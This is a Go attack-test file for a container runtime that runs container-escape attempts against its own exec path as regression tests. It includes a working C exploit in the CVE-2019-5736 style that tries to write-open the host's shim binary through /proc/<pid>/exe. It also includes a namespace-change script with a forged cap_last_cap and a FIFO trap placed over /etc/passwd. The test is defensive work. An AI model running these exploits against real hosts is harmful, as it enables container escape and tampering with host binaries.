package e2e

// Attack tests: code in a container is hostile, PID 1 included (see the
// threat model in the design notes). Each test runs an attack on every
// handler it applies to and in both exec modes, and checks what a user
// would check afterwards. They fail while the hole they describe is open.

import (
	"bytes"
	"context"
	"crypto/sha256"
	"fmt"
	"io"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"
	"time"

	v1 "github.com/google/go-containerregistry/pkg/v1"
	"golang.org/x/sys/unix"
	runtimeapi "k8s.io/cri-api/pkg/apis/runtime/v1"

	"github.com/berthrt/berth/runtime/shim/direct"
	"github.com/berthrt/berth/test/fixtures"
	"github.com/berthrt/berth/test/harness"
	"github.com/berthrt/berth/test/registry"
)

// execModes are the values of a handler's `exec` setting.
var execModes = []string{"direct", "runtime"}

// startAttackBerthd starts berthd serving reg's images with handler as
// the only (and default) handler, its table as berthd's embedded defaults
// have it (path, args) but with exec = mode and its state under the
// test's own state directory.
func startAttackBerthd(t *testing.T, reg *registry.Server, handler, mode string) *harness.Berthd {
	t.Helper()
	harness.RequireRoot(t)
	out, err := exec.Command(filepath.Join(harness.Binaries(t), "berthd"), "config", "default").Output()
	if err != nil {
		t.Fatalf("berthd config default: %v", err)
	}
	var table strings.Builder
	in := false
	for _, line := range strings.Split(string(out), "\n") {
		if strings.HasPrefix(line, "[") {
			in = line == "[runtimes."+handler+"]"
		}
		if !in {
			continue
		}
		switch {
		case strings.HasPrefix(line, "root ="):
			// <state>/runtime/<handler> of this berthd, not the host's.
		case strings.HasPrefix(line, "exec ="):
			fmt.Fprintf(&table, "exec = %q\n", mode)
		default:
			table.WriteString(line + "\n")
		}
	}
	if !strings.Contains(table.String(), "exec = ") {
		t.Fatalf("berthd's defaults have no [runtimes.%s] table with an exec key (is %s installed? make test-deps):\n%s", handler, handler, out)
	}
	return harness.Start(t, harness.Options{Mirrors: fixtures.Mirrors(reg), DefaultRuntime: handler, Extra: table.String()})
}

// attackPod runs a pod with one container of image running cmd (with
// envs), with the settings a kubelet sends for a pod that asks for
// nothing: root, no seccomp profile (Unconfined), allowPrivilegeEscalation
// unset, its own PID namespace. It returns the ids and the container's
// log file.
func attackPod(t *testing.T, b *harness.Berthd, dir, name, image string, cmd []string, envs ...*runtimeapi.KeyValue) (pod, ctr, logPath string) {
	t.Helper()
	b.Crictl(t, "pull", image)
	client := b.Client(t)
	ctx, cancel := context.WithTimeout(context.Background(), 2*time.Minute)
	defer cancel()
	unconfined := &runtimeapi.SecurityProfile{ProfileType: runtimeapi.SecurityProfile_Unconfined}
	ownPID := &runtimeapi.NamespaceOption{Pid: runtimeapi.NamespaceMode_CONTAINER}
	podCfg := &runtimeapi.PodSandboxConfig{
		Metadata:     &runtimeapi.PodSandboxMetadata{Name: name, Namespace: "e2e-attack", Uid: name + "-uid"},
		Hostname:     name,
		LogDirectory: filepath.Join(dir, "logs", name),
		Linux: &runtimeapi.LinuxPodSandboxConfig{SecurityContext: &runtimeapi.LinuxSandboxSecurityContext{
			NamespaceOptions: ownPID, Seccomp: unconfined,
		}},
	}
	rp, err := client.RunPodSandbox(ctx, &runtimeapi.RunPodSandboxRequest{Config: podCfg})
	if err != nil {
		t.Fatalf("RunPodSandbox: %v", err)
	}
	cfg := &runtimeapi.ContainerConfig{
		Metadata: &runtimeapi.ContainerMetadata{Name: name},
		Image:    &runtimeapi.ImageSpec{Image: image},
		Command:  cmd,
		Envs:     envs,
		LogPath:  name + ".log",
		Linux: &runtimeapi.LinuxContainerConfig{SecurityContext: &runtimeapi.LinuxContainerSecurityContext{
			NamespaceOptions: ownPID, Seccomp: unconfined,
		}},
	}
	cr, err := client.CreateContainer(ctx, &runtimeapi.CreateContainerRequest{PodSandboxId: rp.PodSandboxId, Config: cfg, SandboxConfig: podCfg})
	if err != nil {
		t.Fatalf("CreateContainer: %v", err)
	}
	if _, err := client.StartContainer(ctx, &runtimeapi.StartContainerRequest{ContainerId: cr.ContainerId}); err != nil {
		t.Fatalf("StartContainer: %v", err)
	}
	return rp.PodSandboxId, cr.ContainerId, filepath.Join(podCfg.LogDirectory, name+".log")
}

// waitLog waits until the container's log has a line containing one of
// wants, and returns that one.
func waitLog(t *testing.T, logPath string, limit time.Duration, wants ...string) string {
	t.Helper()
	deadline := time.Now().Add(limit)
	for {
		data, _ := os.ReadFile(logPath)
		for _, w := range wants {
			if bytes.Contains(data, []byte(w)) {
				return w
			}
		}
		if time.Now().After(deadline) {
			t.Fatalf("the container did not log any of %q within %v; its log:\n%s", wants, limit, data)
		}
		time.Sleep(50 * time.Millisecond)
	}
}

// execSync runs cmd through ExecSync, the call bounded so that a hang
// fails the test instead of stalling it.
func execSync(client runtimeapi.RuntimeServiceClient, ctr string, timeout int64, cmd ...string) (*runtimeapi.ExecSyncResponse, error) {
	ctx, cancel := context.WithTimeout(context.Background(), time.Duration(timeout+20)*time.Second)
	defer cancel()
	return client.ExecSync(ctx, &runtimeapi.ExecSyncRequest{ContainerId: ctr, Cmd: cmd, Timeout: timeout})
}

// teardown stops and removes the container and the pod as the kubelet
// does, each call bounded; failures are errors of the test.
func teardown(t *testing.T, client runtimeapi.RuntimeServiceClient, pod, ctr string) {
	t.Helper()
	steps := []struct {
		name string
		call func(context.Context) error
	}{
		{"StopContainer", func(ctx context.Context) error {
			_, err := client.StopContainer(ctx, &runtimeapi.StopContainerRequest{ContainerId: ctr, Timeout: 0})
			return err
		}},
		{"RemoveContainer", func(ctx context.Context) error {
			_, err := client.RemoveContainer(ctx, &runtimeapi.RemoveContainerRequest{ContainerId: ctr})
			return err
		}},
		{"StopPodSandbox", func(ctx context.Context) error {
			_, err := client.StopPodSandbox(ctx, &runtimeapi.StopPodSandboxRequest{PodSandboxId: pod})
			return err
		}},
		{"RemovePodSandbox", func(ctx context.Context) error {
			_, err := client.RemovePodSandbox(ctx, &runtimeapi.RemovePodSandboxRequest{PodSandboxId: pod})
			return err
		}},
	}
	for _, s := range steps {
		ctx, cancel := context.WithTimeout(context.Background(), 30*time.Second)
		start := time.Now()
		err := s.call(ctx)
		cancel()
		if err != nil {
			t.Errorf("%s: %v (after %v)", s.name, err, time.Since(start).Round(time.Millisecond))
		}
	}
}

// hostCaps is the effective capability set of this test (host root, as
// berthd and its shims): an exec'd process that has all of it has every
// capability the host's user namespace grants (000001ffffffffff on a host
// that bounds none).
func hostCaps(t *testing.T) uint64 {
	t.Helper()
	data, err := os.ReadFile("/proc/self/status")
	if err != nil {
		t.Fatal(err)
	}
	m := capEffRe.FindSubmatch(data)
	if m == nil {
		t.Fatalf("no CapEff in /proc/self/status:\n%s", data)
	}
	c, err := strconv.ParseUint(string(m[1]), 16, 64)
	if err != nil || c == 0 {
		t.Fatalf("host CapEff %q: %v", m[1], err)
	}
	return c
}

// allCaps says whether the CapEff hex string has every capability in
// host.
func allCaps(capEff string, host uint64) bool {
	c, err := strconv.ParseUint(capEff, 16, 64)
	return err == nil && c&host == host
}

// nsProbe prints what a process is allowed: its status (capability
// sets), its user namespace and uid map. probe-ran says it ran at all.
const nsProbe = `echo probe-ran
cat /proc/self/status
echo "userns=$(readlink /proc/self/ns/user)"
echo uid_map:
cat /proc/self/uid_map`

var (
	capEffRe = regexp.MustCompile(`(?m)^CapEff:\s*([0-9a-f]+)`)
	userNSRe = regexp.MustCompile(`(?m)^userns=(\S*)`)
)

// probed is what nsProbe printed; out keeps the lines that matter.
type probed struct{ capEff, userNS, out string }

func parseProbe(out string) probed {
	var keep []string
	uidMap := false
	for _, l := range strings.Split(out, "\n") {
		if strings.HasPrefix(l, "Cap") || strings.HasPrefix(l, "NoNewPrivs") || strings.HasPrefix(l, "Seccomp:") ||
			strings.HasPrefix(l, "Uid:") || strings.HasPrefix(l, "userns=") || uidMap || l == "uid_map:" || strings.Contains(l, "probe-ran") {
			keep = append(keep, l)
		}
		uidMap = uidMap || l == "uid_map:"
	}
	p := probed{out: strings.Join(keep, "\n")}
	if m := capEffRe.FindStringSubmatch(out); m != nil {
		p.capEff = m[1]
	}
	if m := userNSRe.FindStringSubmatch(out); m != nil {
		p.userNS = m[1]
	}
	return p
}

// nsChangeScript is the container's PID 1: it waits for /tmp/go, then
// becomes (exec) a process in a user and a mount namespace of its own
// where /proc/sys/kernel/cap_last_cap says -1, and sleeps there. Whatever
// enters "the container's namespaces" by following its init from then on
// reads that file in that mount namespace, without that user namespace.
const nsChangeScript = `echo waiting
while [ ! -e /tmp/go ]; do sleep 0.1; done
echo -1 > /tmp/f
if ! unshare -U -r true; then echo attack-failed: no user namespace; exec sleep 1000; fi
exec unshare -U -r -m sh -c 'if mount --bind /tmp/f /proc/sys/kernel/cap_last_cap; then echo attack-ready; else echo attack-failed: no bind mount; fi; exec sleep 1000'`

// TestAttackExecAfterNamespaceChange: the container's init moves itself
// into a user and mount namespace of its own (where cap_last_cap is
// forged) before the next exec. An exec that follows the init there
// without its user namespace would be a process of the host's user
// namespace with every capability in it: a container escape. berth must
// refuse the exec (runc, crun); in gVisor the exec stays in the sandbox,
// and must not get every capability nor the host's user namespace.
func TestAttackExecAfterNamespaceChange(t *testing.T) {
	harness.RequireRoot(t)
	full := hostCaps(t)
	// The user namespace berthd and its shims run in.
	hostNS, err := os.Readlink("/proc/self/ns/user")
	if err != nil {
		t.Fatal(err)
	}
	for _, handler := range handlers {
		for _, mode := range execModes {
			t.Run(handler+"/"+mode, func(t *testing.T) {
				b := startAttackBerthd(t, fixtures.Registry(t), handler, mode)
				client := b.Client(t)
				pod, ctr, logPath := attackPod(t, b, t.TempDir(), "nschange", "busybox:1.36", []string{"sh", "-c", nsChangeScript})
				defer teardown(t, client, pod, ctr)
				waitLog(t, logPath, 30*time.Second, "waiting")

				// Before: an exec works and is an ordinary container process.
				resp, err := execSync(client, ctr, 10, "sh", "-c", nsProbe)
				if err != nil || resp.ExitCode != 0 {
					t.Fatalf("exec before the attack: %v, %+v", err, resp)
				}
				if before := parseProbe(string(resp.Stdout)); before.capEff == "" || allCaps(before.capEff, full) {
					t.Fatalf("exec before the attack has CapEff %q (the host's: %016x):\n%s", before.capEff, full, before.out)
				}

				// The init changes its namespaces.
				if resp, err := execSync(client, ctr, 10, "touch", "/tmp/go"); err != nil || resp.ExitCode != 0 {
					t.Fatalf("exec touch /tmp/go: %v, %+v", err, resp)
				}
				got := waitLog(t, logPath, 30*time.Second, "attack-ready", "attack-failed")
				if handler != "runsc" {
					init := inspectCtr(t, b, ctr).Info.Pid
					ns, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/user", init))
					if got != "attack-ready" || err != nil || ns == hostNS {
						log, _ := os.ReadFile(logPath)
						t.Fatalf("the attack did not take hold (init %d in user namespace %s, %v; the host's %s); log:\n%s", init, ns, err, hostNS, log)
					}
				} else {
					t.Logf("in gVisor the init logged %q", got)
				}

				judge := func(what string, ran bool, out string, failure string) {
					t.Helper()
					p := parseProbe(out)
					if !ran {
						t.Logf("%s after the attack: refused (%s)", what, failure)
						return
					}
					if handler != "runsc" {
						t.Errorf("%s after the init changed its namespaces ran, want it refused: CapEff %s (the host's: %016x), user namespace %s (the host's: %s)\n%s",
							what, p.capEff, full, p.userNS, hostNS, p.out)
						return
					}
					if p.capEff == "" || allCaps(p.capEff, full) || p.userNS == "" || p.userNS == hostNS {
						t.Errorf("%s after the attack: CapEff %q (the host's: %016x), user namespace %q (the host's: %s)\n%s",
							what, p.capEff, full, p.userNS, hostNS, p.out)
						return
					}
					t.Logf("%s after the attack ran in the sandbox: CapEff %s, user namespace %s", what, p.capEff, p.userNS)
				}

				resp, err = execSync(client, ctr, 10, "sh", "-c", nsProbe)
				switch {
				case err != nil:
					judge("ExecSync", false, "", err.Error())
				default:
					out := string(resp.Stdout)
					judge("ExecSync", strings.Contains(out, "probe-ran"), out+string(resp.Stderr),
						fmt.Sprintf("exit code %d, stderr %q", resp.ExitCode, resp.Stderr))
					if !strings.Contains(out, "probe-ran") && resp.ExitCode == 0 {
						t.Errorf("ExecSync after the attack neither ran the probe nor failed: %+v", resp)
					}
				}

				ctx, cancel := context.WithTimeout(context.Background(), 60*time.Second)
				defer cancel()
				sout, serr := crictlCmd(ctx, t, b, "exec", ctr, "sh", "-c", nsProbe).CombinedOutput()
				ran := strings.Contains(string(sout), "probe-ran")
				judge("streaming exec", ran, string(sout), fmt.Sprintf("%v: %s", serr, bytes.TrimSpace(sout)))
				if !ran && serr == nil {
					t.Errorf("streaming exec after the attack neither ran the probe nor failed:\n%s", sout)
				}
			})
		}
	}
}

// podCgroups lists the pod's cgroup directories (every hierarchy).
func podCgroups(pod string) []string {
	var dirs []string
	for _, pattern := range []string{"/sys/fs/cgroup/berth/" + pod, "/sys/fs/cgroup/*/berth/" + pod} {
		m, _ := filepath.Glob(pattern)
		dirs = append(dirs, m...)
	}
	return dirs
}

// cgroupHierarchy names the hierarchy of a podCgroups directory ("" for
// a cgroup2 root at /sys/fs/cgroup).
func cgroupHierarchy(dir string) string {
	rel := strings.TrimPrefix(dir, "/sys/fs/cgroup/")
	if strings.HasPrefix(rel, "berth/") {
		return ""
	}
	return strings.SplitN(rel, "/", 2)[0]
}

// podCgroupsBut lists the pod's cgroup directories outside the
// hierarchies in skip.
func podCgroupsBut(pod string, skip map[string]bool) []string {
	var out []string
	for _, cg := range podCgroups(pod) {
		if !skip[cgroupHierarchy(cg)] {
			out = append(out, cg)
		}
	}
	return out
}

// directHelpers lists running berth-shim direct exec helpers (pid: its
// command line and binary).
func directHelpers() map[int]string {
	helpers := map[int]string{}
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		pid, err := strconv.Atoi(e.Name())
		if err != nil {
			continue
		}
		cmd, err := os.ReadFile(filepath.Join("/proc", e.Name(), "cmdline"))
		if err != nil {
			continue
		}
		args := strings.Split(string(cmd), "\x00")
		if len(args) < 2 || args[1] != direct.Arg {
			continue
		}
		exe, _ := os.Readlink(filepath.Join("/proc", e.Name(), "exe"))
		if strings.Contains(exe, "berth-shim") || strings.Contains(args[0], "berth-shim") || args[0] == "/proc/self/exe" {
			helpers[pid] = strings.Join(args, " ") + " (" + exe + ")"
		}
	}
	return helpers
}

// newHelpers lists the direct exec helpers running now that were not in
// before.
func newHelpers(before map[int]string) []string {
	var out []string
	for pid, h := range directHelpers() {
		if _, old := before[pid]; !old {
			out = append(out, fmt.Sprintf("pid %d: %s", pid, h))
		}
	}
	return out
}

// TestAttackExecFifoPasswd: the container replaces /etc/passwd with a
// FIFO, where an exec without HOME in its environment looks up the
// user's home. An ExecSync with a 3 s timeout must still end in about
// that time, and the pod must go away without leaving a helper process or
// a cgroup behind.
func TestAttackExecFifoPasswd(t *testing.T) {
	harness.RequireRoot(t)
	const limit = 6 * time.Second // the 3 s timeout, the kill, draining the output
	for _, handler := range handlers {
		for _, mode := range execModes {
			t.Run(handler+"/"+mode, func(t *testing.T) {
				b := startAttackBerthd(t, fixtures.Registry(t), handler, mode)
				client := b.Client(t)
				dir := t.TempDir()

				// A pod that is not attacked, through the same calls: the
				// cgroup hierarchies it leaves behind too are not this
				// test's concern.
				cpod, cctr, _ := attackPod(t, b, dir, "control", "busybox:1.36", []string{"sleep", "1000"})
				if len(podCgroups(cpod)) == 0 {
					teardown(t, client, cpod, cctr)
					t.Fatalf("found no cgroup of pod %s under /sys/fs/cgroup/{,*/}berth: the leak check would prove nothing", cpod)
				}
				if resp, err := execSync(client, cctr, 3, "true"); err != nil || resp.ExitCode != 0 {
					t.Errorf("exec in a pod that is not attacked: %s", fmtExec(resp, err))
				}
				teardown(t, client, cpod, cctr)
				for deadline := time.Now().Add(5 * time.Second); len(podCgroups(cpod)) > 0 && time.Now().Before(deadline); {
					time.Sleep(100 * time.Millisecond)
				}
				known := map[string]bool{}
				if left := podCgroups(cpod); len(left) > 0 {
					for _, cg := range left {
						known[cgroupHierarchy(cg)] = true
					}
					t.Logf("a pod that was not attacked leaves these cgroups behind as well (not held against the attack): %v", left)
				}

				pod, ctr, logPath := attackPod(t, b, dir, "fifo", "busybox:1.36",
					[]string{"sh", "-c", "rm -f /etc/passwd && mkfifo /etc/passwd && echo fifo-ready; exec sleep 1000"})
				waitLog(t, logPath, 30*time.Second, "fifo-ready")
				if len(podCgroupsBut(pod, known)) == 0 {
					teardown(t, client, pod, ctr)
					t.Fatalf("pod %s has no cgroup outside the hierarchies %v: the leak check would prove nothing", pod, known)
				}
				before := directHelpers()

				start := time.Now()
				resp, err := execSync(client, ctr, 3, "true")
				took := time.Since(start)
				if took > limit {
					t.Errorf("ExecSync with a 3 s timeout took %v (want at most %v): %s", took.Round(time.Millisecond), limit, fmtExec(resp, err))
				} else {
					t.Logf("ExecSync with a 3 s timeout: %s after %v", fmtExec(resp, err), took.Round(time.Millisecond))
				}
				during := newHelpers(before)

				teardown(t, client, pod, ctr)
				deadline := time.Now().Add(15 * time.Second)
				for {
					left := newHelpers(before)
					cgs := podCgroupsBut(pod, known)
					if len(left) == 0 && len(cgs) == 0 {
						break
					}
					if time.Now().After(deadline) {
						for _, cg := range cgs {
							procs, _ := os.ReadFile(filepath.Join(cg, "cgroup.procs"))
							left = append(left, fmt.Sprintf("cgroup %s (processes: %s)", cg, strings.Fields(string(procs))))
						}
						t.Fatalf("left behind after the pod was removed (helpers running after the exec returned: %v):\n%s", during, strings.Join(left, "\n"))
					}
					time.Sleep(100 * time.Millisecond)
				}
			})
		}
	}
}

// fmtExec says how an ExecSync ended.
func fmtExec(resp *runtimeapi.ExecSyncResponse, err error) string {
	if err != nil {
		return "error " + err.Error()
	}
	return fmt.Sprintf("exit code %d, stdout %q, stderr %q", resp.ExitCode, resp.Stdout, resp.Stderr)
}

// attackerSource is the container's PID 1 in TestAttackHelperBinaryNotWritable.
// It makes /usr/local/bin/healthcheck a script whose interpreter is
// /proc/self/exe (whatever program execs it runs again, as itself, in the
// container: CVE-2019-5736), then watches every process of the container:
// it opens each one's /proc/<pid>/exe, keeps every descriptor to a file
// that is not on the container's root filesystem and tries to open it for
// writing, directly and, as long as it runs, again through
// /proc/self/fd. It logs what it got. It writes only to the file that
// TARGET ("<st_dev> <st_ino>") names, the test's own copy of berth-shim:
// nothing else of the host is changed should a write-open succeed.
const attackerSource = `#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MAXHELD 256
static int held[MAXHELD], nheld, reported[MAXHELD], writable[MAXHELD];
static struct stat heldst[MAXHELD];
static unsigned long long tdev, tino;

static void trywrite(int k, int how, const char *path) {
	unsigned long long dev = heldst[k].st_dev, ino = heldst[k].st_ino;
	if (writable[k])
		return;
	int w = open(path, O_WRONLY | O_APPEND | O_CLOEXEC);
	if (w < 0) {
		if (!(reported[k] & how)) {
			printf("write-open %s dev=%llu ino=%llu: %s\n", path, dev, ino, strerror(errno));
			reported[k] |= how;
		}
		return;
	}
	writable[k] = 1;
	printf("writable %s dev=%llu ino=%llu\n", path, dev, ino);
	if (dev == tdev && ino == tino) {
		if (write(w, "berth-attack\n", 13) == 13)
			printf("wrote dev=%llu ino=%llu\n", dev, ino);
		else
			printf("write failed dev=%llu ino=%llu: %s\n", dev, ino, strerror(errno));
	}
	close(w);
}

int main(void) {
	setvbuf(stdout, NULL, _IOLBF, 0);
	const char *target = getenv("TARGET");
	if (!target || sscanf(target, "%llu %llu", &tdev, &tino) != 2) {
		printf("TARGET unset\n");
		return 1;
	}
	struct stat root;
	if (stat("/", &root) != 0) {
		perror("stat /");
		return 1;
	}
	int s = open("/usr/local/bin/healthcheck", O_WRONLY | O_CREAT | O_TRUNC, 0755);
	if (s < 0 || write(s, "#!/proc/self/exe\n", 17) != 17 || close(s) != 0 || chmod("/usr/local/bin/healthcheck", 0755) != 0) {
		perror("healthcheck");
		return 1;
	}
	pid_t self = getpid();
	printf("attacker ready\n");
	struct timespec last = {0}, now;
	for (;;) {
		DIR *d = opendir("/proc");
		struct dirent *e;
		while (d && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			if (pid <= 0 || pid == self || nheld == MAXHELD)
				continue;
			char p[64];
			snprintf(p, sizeof p, "/proc/%d/exe", pid);
			int fd = open(p, O_RDONLY | O_CLOEXEC);
			if (fd < 0)
				continue;
			struct stat st;
			int known = fstat(fd, &st) != 0 || st.st_dev == root.st_dev;
			for (int k = 0; !known && k < nheld; k++)
				known = heldst[k].st_dev == st.st_dev && heldst[k].st_ino == st.st_ino;
			if (known) {
				close(fd);
				continue;
			}
			held[nheld] = fd;
			heldst[nheld] = st;
			printf("held pid=%d fd=%d dev=%llu ino=%llu\n", pid, fd, (unsigned long long)st.st_dev, (unsigned long long)st.st_ino);
			trywrite(nheld, 1, p);
			nheld++;
		}
		if (d)
			closedir(d);
		clock_gettime(CLOCK_MONOTONIC, &now);
		if ((now.tv_sec - last.tv_sec) * 1000000000L + (now.tv_nsec - last.tv_nsec) > 100000000L) {
			last = now;
			for (int k = 0; k < nheld; k++) {
				char p[64];
				snprintf(p, sizeof p, "/proc/self/fd/%d", held[k]);
				trywrite(k, 2, p);
			}
		}
		usleep(200);
	}
}
`

// attackerImage is busybox with the attacker as its command.
func attackerImage(t *testing.T) v1.Image {
	t.Helper()
	dir := t.TempDir()
	src := filepath.Join(dir, "attack.c")
	if err := os.WriteFile(src, []byte(attackerSource), 0o644); err != nil {
		t.Fatal(err)
	}
	if out, err := exec.Command("gcc", "-static", "-O2", "-o", filepath.Join(dir, "attack"), src).CombinedOutput(); err != nil {
		t.Fatalf("gcc attack.c (apt-get install gcc libc6-dev): %v\n%s", err, out)
	}
	bin, err := os.ReadFile(filepath.Join(dir, "attack"))
	if err != nil {
		t.Fatal(err)
	}
	return fixtures.Busybox(t, v1.Config{Cmd: []string{"/usr/local/bin/attack"}},
		registry.File{Name: "usr/local/bin/attack", Body: string(bin), Mode: 0o755})
}

func fileSum(t *testing.T, path string) [32]byte {
	t.Helper()
	f, err := os.Open(path)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	h := sha256.New()
	if _, err := io.Copy(h, f); err != nil {
		t.Fatal(err)
	}
	var sum [32]byte
	copy(sum[:], h.Sum(nil))
	return sum
}

// privateShim makes b run its pods' shims from a copy of berth-shim of
// its own (what the attack may write to is then this test's alone, and
// no rebuild of $BERTH_BIN changes it meanwhile) and restarts b on it.
func privateShim(t *testing.T, b *harness.Berthd) string {
	t.Helper()
	data, err := os.ReadFile(filepath.Join(b.Bin, "berth-shim"))
	if err != nil {
		t.Fatal(err)
	}
	shim := filepath.Join(t.TempDir(), "berth-shim")
	if err := os.WriteFile(shim, data, 0o755); err != nil {
		t.Fatal(err)
	}
	cfg, err := os.ReadFile(b.ConfigPath)
	if err != nil {
		t.Fatal(err)
	}
	old := fmt.Sprintf("shim_path = %q", filepath.Join(b.Bin, "berth-shim"))
	if !bytes.Contains(cfg, []byte(old)) {
		t.Fatalf("config has no %s line:\n%s", old, cfg)
	}
	cfg = bytes.Replace(cfg, []byte(old), []byte(fmt.Sprintf("shim_path = %q", shim)), 1)
	if err := os.WriteFile(b.ConfigPath, cfg, 0o644); err != nil {
		t.Fatal(err)
	}
	if err := b.Stop(t); err != nil {
		t.Fatal(err)
	}
	b.Restart(t)
	return shim
}

// heldDescriptor is a descriptor a process holds to a file.
type heldDescriptor struct {
	pid, fd, fdinfo string
	// writableMount: the mount it was opened through is not read-only
	// (statfs: no ST_RDONLY), so reopening it through /proc/<pid>/fd for
	// writing succeeds once no process executes the file.
	writableMount bool
}

func (h heldDescriptor) String() string {
	return fmt.Sprintf("pid %s fd %s (%s; writable mount %v)", h.pid, h.fd, h.fdinfo, h.writableMount)
}

// descriptorsTo lists the descriptors that processes in pid's PID
// namespace hold to the file fi.
func descriptorsTo(t *testing.T, pid int, fi os.FileInfo) []heldDescriptor {
	t.Helper()
	ns, err := os.Readlink(fmt.Sprintf("/proc/%d/ns/pid", pid))
	if err != nil {
		t.Fatalf("the container's init (pid %d): %v", pid, err)
	}
	var found []heldDescriptor
	ents, _ := os.ReadDir("/proc")
	for _, e := range ents {
		if _, err := strconv.Atoi(e.Name()); err != nil {
			continue
		}
		if other, _ := os.Readlink(filepath.Join("/proc", e.Name(), "ns", "pid")); other != ns {
			continue
		}
		fds, _ := os.ReadDir(filepath.Join("/proc", e.Name(), "fd"))
		for _, fd := range fds {
			p := filepath.Join("/proc", e.Name(), "fd", fd.Name())
			st, err := os.Stat(p)
			if err != nil || !os.SameFile(st, fi) {
				continue
			}
			info, _ := os.ReadFile(filepath.Join("/proc", e.Name(), "fdinfo", fd.Name()))
			h := heldDescriptor{pid: e.Name(), fd: fd.Name(), fdinfo: strings.Join(strings.Fields(string(info)), " "), writableMount: true}
			// statfs reports the flags of the mount the descriptor's path
			// is on (and of its file system); one not read can be written.
			var sfs unix.Statfs_t
			if err := unix.Statfs(p, &sfs); err == nil && sfs.Flags&unix.ST_RDONLY != 0 {
				h.writableMount = false
			}
			found = append(found, h)
		}
	}
	return found
}

// TestAttackHelperBinaryNotWritable: while berth starts processes in the
// container, a root process there tries to get hold of the host's
// berth-shim binary through /proc/<pid>/exe (of every process it sees,
// including a program that re-executes whatever execs it) and to write
// to it. Nothing in the container may open that file for writing, nor
// hold a descriptor to it through which it could later (a descriptor on
// a writable mount: reopened through /proc/self/fd for writing once no
// process executes the file, as in CVE-2019-5736), and the file must be
// unchanged after the attack.
func TestAttackHelperBinaryNotWritable(t *testing.T) {
	harness.RequireRoot(t)
	img := attackerImage(t)
	for _, handler := range handlers {
		for _, mode := range execModes {
			t.Run(handler+"/"+mode, func(t *testing.T) {
				reg := fixtures.Registry(t)
				reg.Push(t, "library/attacker:1", img)
				b := startAttackBerthd(t, reg, handler, mode)
				shim := privateShim(t, b)
				sum := fileSum(t, shim)
				fi, err := os.Stat(shim)
				if err != nil {
					t.Fatal(err)
				}
				st := fi.Sys().(*syscall.Stat_t)
				// How the attacker logs the file.
				targetID := fmt.Sprintf("dev=%d ino=%d", st.Dev, st.Ino)
				target := regexp.MustCompile(targetID + `\b`)

				client := b.Client(t)
				pod, ctr, logPath := attackPod(t, b, t.TempDir(), "attacker", "attacker:1", []string{"/usr/local/bin/attack"},
					&runtimeapi.KeyValue{Key: "TARGET", Value: []byte(fmt.Sprintf("%d %d", st.Dev, st.Ino))})
				waitLog(t, logPath, 30*time.Second, "attacker ready")
				init := inspectCtr(t, b, ctr).Info.Pid

				// A process berth starts that runs a while (its helper with
				// it, in direct mode), for the attacker to look at.
				sleeper := make(chan string, 1)
				go func() {
					resp, err := execSync(client, ctr, 10, "sleep", "5")
					sleeper <- fmtExec(resp, err)
				}()
				// Probes that run the container's healthcheck, until the
				// attacker logs that it holds the binary (or enough tries).
				var first string
				for i := 0; i < 30; i++ {
					resp, err := execSync(client, ctr, 10, "/usr/local/bin/healthcheck")
					if i == 0 {
						first = fmtExec(resp, err)
					}
					if data, _ := os.ReadFile(logPath); target.Match(data) {
						break
					}
				}
				t.Logf("the first healthcheck exec: %s", first)
				held := descriptorsTo(t, init, fi)
				select {
				case r := <-sleeper:
					t.Logf("exec sleep 5: %s", r)
				case <-time.After(40 * time.Second):
					t.Errorf("exec sleep 5 did not end")
				}
				log, _ := os.ReadFile(logPath)
				teardown(t, client, pod, ctr)

				var got []string
				for _, line := range strings.Split(string(log), "\n") {
					if target.MatchString(line) {
						got = append(got, line)
					}
				}
				var writable []heldDescriptor
				for _, h := range held {
					if h.writableMount {
						writable = append(writable, h)
					}
				}
				if len(writable) > 0 {
					t.Errorf("a process of the container holds a descriptor to the host's berth-shim (%s, %s) on a writable mount: it can write to it once nothing executes it\nseen from the host: %v\nwhat the attacker logged:\n%s",
						shim, targetID, writable, strings.Join(got, "\n"))
				} else if len(got) > 0 || len(held) > 0 {
					t.Logf("the container holds the host's berth-shim through a read-only mount only: %v\n%s", held, strings.Join(got, "\n"))
				}
				for _, line := range got {
					if strings.Contains(line, " F writable ") || strings.Contains(line, " F wrote ") {
						t.Errorf("the container opened the host's berth-shim for writing: %s", line)
					}
				}
				if after := fileSum(t, shim); after != sum {
					t.Errorf("the host's berth-shim (%s) changed during the attack: sha256 %x, was %x", shim, after, sum)
				}
				t.Logf("attacker log:\n%s", log)
			})
		}
	}
}
